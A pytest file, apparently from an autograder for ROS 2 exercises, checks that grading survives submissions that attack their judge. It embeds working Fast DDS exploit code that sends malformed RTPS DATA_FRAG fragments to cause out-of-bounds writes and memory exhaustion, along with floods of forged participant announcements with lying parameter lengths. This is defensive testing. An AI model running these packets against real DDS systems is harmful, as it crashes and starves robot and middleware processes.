"""A program that speaks RTPS itself may bring down the process that hears it, and gains nothing by it.

In Fast DDS 2.14.5 a DATA_FRAG submessage (RTPS 2.3, 9.4.5.4) is believed in what it says of sizes: the list of missing
fragments is written beyond the end of the sample, and memory is taken for a sample that never comes.
"""

import pytest

from autograder.records import GRADED, KILLED_JUDGE, NOT_RUN
from tests import chosen
from tests.hidden.answers.services import REFERENCE

ATTACK = """
import os, socket, struct, time
import rclpy

def attack(node, sizes):
    while not node.count_subscribers('/rosout'):
        rclpy.spin_once(node, timeout_sec=0.05)
    node.get_logger().info('hello')
    own = [found for found in node.get_publishers_info_by_topic('/rosout') if found.node_name == node.get_name()]
    writer, port = bytes(own[0].endpoint_gid)[:16], 7400 + 250 * int(os.environ['ROS_DOMAIN_ID']) + 11
    out, end, number = socket.socket(socket.AF_INET, socket.SOCK_DGRAM), time.time() + 4, 2
    while time.time() < end:
        for fragment, sample in sizes:
            body = struct.pack('<HH4s4siIIHHI', 0, 28, bytes(4), writer[12:], 0, number, 1, 1, fragment, sample)
            body += b'A' * max(8, fragment)
            head = b'RTPS' + bytes([2, 3, 1, 15]) + writer[:12] + struct.pack('<BBH', 0x16, 1, len(body))
            for participant in range(3):
                out.sendto(head + body, ('127.0.0.1', port + 2 * participant))
            number += 1
        rclpy.spin_once(node, timeout_sec=0.01)
"""
# The announcement of a participant (DATA(p), RTPS 2.3, 8.5.3.2): a list of parameters, of which each says its length.
# First of hundreds of participants that are not there; then with lengths and contents that lie.
DISCOVERY = """
import os, random, socket, struct, time
import rclpy

def parameter(number, content, length=None):
    content += bytes(-len(content) % 4)
    return struct.pack('<HH', number, len(content) if length is None else length) + content

def locator(port):
    return struct.pack('<iI12x4B', 1, port, 127, 0, 0, 1)

def announcement(prefix, sequence, lie):
    guid = prefix + bytes([0, 0, 1, 0xc1])
    said = [(0x15, bytes([2, 3, 0, 0])), (0x16, bytes([1, 15, 0, 0])), (0x50, guid),
            (0x32, locator(7410)), (0x31, locator(7411)), (0x02, struct.pack('<iI', 100, 0)),
            (0x58, struct.pack('<I', 0xfc3f)), (0x62, struct.pack('<I', 6) + b'judge' + bytes(3)),
            (0x2c, struct.pack('<I', 0xffffffff if lie else 4) + b'enc='),
            (0x59, struct.pack('<I', 2**31 if lie else 0))]
    body = b''.join(parameter(*each, random.choice((None, None, 0, 3, 65532)) if lie else None) for each in said)
    body = struct.pack('>HH', 3, 0) + body + struct.pack('<HH', 1, 0)
    data = struct.pack('<HH4s4siI', 0, 16, bytes(4), bytes([0, 1, 0, 0xc2]), 0, sequence) + body
    return b'RTPS' + bytes([2, 3, 1, 15]) + prefix + struct.pack('<BBH', 0x15, 5, len(data)) + data

def attack(node, lie):
    base = 7400 + 250 * int(os.environ['ROS_DOMAIN_ID'])
    out, end, sequence = socket.socket(socket.AF_INET, socket.SOCK_DGRAM), time.time() + 4, 1
    random.seed(1)
    while time.time() < end and sequence < 300:
        for _ in range(20):
            prefix = bytes([1, 15]) + random.randbytes(10)
            for port in (base, base + 10, base + 12, base + 14):
                out.sendto(announcement(prefix, sequence, lie), ('127.0.0.1', port))
            sequence += 1
        rclpy.spin_once(node, timeout_sec=0.01)
"""
NODE = """
class Attacker(Node):
    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        attack(self, {how})

"""
ATTACKS = {
    "writes beyond a sample": (ATTACK, "[(1, 16 * n + 6) for n in range(80, 3000, 97)] + [(5, 101), (5, 151)]"),
    "takes memory for a sample": (ATTACK, "[(1024, 200_000_000)]"),
    "hundreds of participants": (DISCOVERY, "False"),
    "announcements that lie": (DISCOVERY, "True"),
}


def attacking(attack: str, how: str) -> dict[str, bytes]:
    """The right answer, but that each of its nodes attacks before it does anything else."""
    text = REFERENCE["motor_service.py"].decode()
    assert "(Node)" in text
    head = attack.replace("import rclpy\n", "import rclpy\nfrom rclpy.node import Node\n", 1) + NODE.replace(
        "{how}", how
    )
    return REFERENCE | {"motor_service.py": (head + text.replace("(Node)", "(Attacker)")).encode()}


# Each run has the one that kills judges; the others hold up a processor for a minute.
CASES = [pytest.param(name, marks=[pytest.mark.matrix] * (name != "writes beyond a sample")) for name in ATTACKS]


@pytest.fixture(scope="module")
def reports(request, grade):
    """The gradings that are asked about, all begun at once, with an honest one among them."""
    asked = chosen.values(request, "name")
    handed_in = {name: attacking(*attack) for name, attack in ATTACKS.items()} | {"honest": REFERENCE}
    return {name: grade(files, "services") for name, files in handed_in.items() if name in asked}


@pytest.mark.parametrize("name", CASES)
def test_it_is_judged(reports, name):
    """The submission is judged, even if its judge dies, which depends on chance and the version of Fast DDS."""
    report = reports[name].result()
    assert report.status == GRADED
    not_run = [test.id for test in report.tests if test.outcome == NOT_RUN]
    assert report.flags in ([[KILLED_JUDGE]] if not_run else [[], [KILLED_JUDGE]])


@pytest.mark.matrix  # beside one attack, test_floods.py has it in each run, by the same exercise
@pytest.mark.parametrize("name", ["honest"])
def test_others_are_not_disturbed(reports, name):
    report = reports[name].result()
    assert (report.score, [test.message for test in report.tests if test.message]) == (report.max_score, [])
